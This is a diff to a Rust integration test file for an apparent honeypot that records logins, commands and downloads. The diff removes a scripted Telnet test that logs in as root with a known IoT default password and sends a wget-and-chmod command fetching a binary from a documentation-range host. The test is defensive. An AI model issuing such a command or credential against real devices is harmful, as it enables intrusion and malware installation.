@@ -1,5 +1,5 @@
-//! HTTP, FTP and Telnet against their ordinary clients: curl (HTTP basic auth, form login, FTP
-//! login and upload) and a scripted Telnet session.
+//! HTTP and FTP against their ordinary clients: curl (HTTP basic auth, form login, FTP login
+//! and upload). Telnet has its own file (`proto_telnet.rs`).
 // Integration tests and benches may panic; the workspace denies unwrap/expect elsewhere.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
@@ -8,7 +8,6 @@ mod support;
 use drosera_uplink::event::{Detail, Event, Protocol, SampleOutcome, Secret};
 use std::time::Duration;
 use support::{require_client, run_client, sha256_hex, Harness};
-use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
 /// (user, secret, extra attributes) of a login event.
 type Login = (String, Secret, Vec<(String, String)>);
@@ -117,46 +116,4 @@ async fn curl_ftp_login_and_upload_is_kept_as_payload() {
     assert_eq!(std::fs::read(&kept).unwrap(), content);
     use std::os::unix::fs::PermissionsExt;
     assert_eq!(std::fs::metadata(&kept).unwrap().permissions().mode() & 0o777, 0o400);
-}
-
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn scripted_telnet_session_records_login_commands_and_downloads() {
-    let h = Harness::start(&["telnet"]).await;
-    let mut s = tokio::net::TcpStream::connect(h.addr(Protocol::Telnet)).await.unwrap();
-    async fn until(s: &mut tokio::net::TcpStream, needle: &str) {
-        let mut seen = Vec::new();
-        let mut buf = [0u8; 512];
-        while !String::from_utf8_lossy(&seen).contains(needle) {
-            let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf)).await.unwrap().unwrap();
-            assert!(n > 0, "closed before {needle:?}");
-            seen.extend_from_slice(&buf[..n]);
-        }
-    }
-    until(&mut s, "login:").await;
-    s.write_all(b"root\r\n").await.unwrap();
-    until(&mut s, "Password:").await;
-    s.write_all(b"xc3511\r\n").await.unwrap();
-    until(&mut s, "# ").await;
-    s.write_all(b"cd /tmp; wget http://203.0.113.5/bins/x86 -O /tmp/x; chmod +x /tmp/x\r\n").await.unwrap();
-    until(&mut s, "# ").await;
-    s.write_all(b"exit\r\n").await.unwrap();
-    let evs = h.wait_connections(1, Duration::from_secs(10)).await;
-    let l = logins(&evs);
-    assert_eq!((l[0].0.as_str(), &l[0].1), ("root", &Secret::Password("xc3511".into())));
-    let cmds: Vec<String> = evs
-        .iter()
-        .filter_map(|e| match &e.detail {
-            Detail::Command { line } => Some(line.clone()),
-            _ => None,
-        })
-        .collect();
-    assert_eq!(cmds, vec!["cd /tmp; wget http://203.0.113.5/bins/x86 -O /tmp/x; chmod +x /tmp/x", "exit"]);
-    let dl = evs
-        .iter()
-        .find_map(|e| match &e.detail {
-            Detail::DownloadOffered { url, tool } => Some((url.clone(), tool.clone())),
-            _ => None,
-        })
-        .unwrap();
-    assert_eq!(dl, ("http://203.0.113.5/bins/x86".into(), "wget".into()));
 }
